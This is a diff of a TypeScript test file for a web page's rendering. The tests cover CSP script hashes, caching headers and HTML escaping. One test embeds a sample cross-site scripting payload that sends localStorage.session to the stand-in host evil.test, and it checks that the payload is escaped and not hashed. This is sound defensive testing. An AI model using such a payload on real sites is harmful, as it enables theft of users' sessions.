@@ -135,8 +135,7 @@ const inlineScripts = (html: string): string[] =>
     ([, code = '']) => code,
   );
 
-const htmlOf = async (given?: Parameters<typeof list>[0]) =>
-  (await (await list(given)).body.plain()).toString();
+const htmlOf = async (given?: Parameters<typeof list>[0]) => (await list(given)).body.plain.toString();
 
 it('renders a page the second time like the first, in both languages', async () => {
   for (const lang of ['en', 'hi'] as const) {
@@ -173,7 +172,7 @@ it('preloads the first pictures in the head', async () => {
 
 it('lists every script of the page in its CSP', async () => {
   const { headers, body } = await list();
-  const html = (await body.plain()).toString();
+  const html = body.plain.toString();
   const hashes = scriptHashes(inlineScripts(html));
   // The head script, and React Router's: the page's context, its modules, its data and the end of the data.
   expect(hashes.length).toBeGreaterThan(1);
@@ -207,7 +206,7 @@ it('sends the page of a shared report with no-store', async () => {
 it('a script that reaches the page through a text is plain text, and has no hash in the CSP', async () => {
   const stolen = 'fetch("//evil.test/"+localStorage.session)';
   const { headers, body } = await article(`<p>Words</p><script>${stolen}</script>`);
-  const html = (await body.plain()).toString();
+  const html = body.plain.toString();
   expect(html).toContain(`&lt;script>${stolen}`);
   expect(html).not.toContain(`<script>${stolen}`);
   const [hash = ''] = scriptHashes([stolen]);
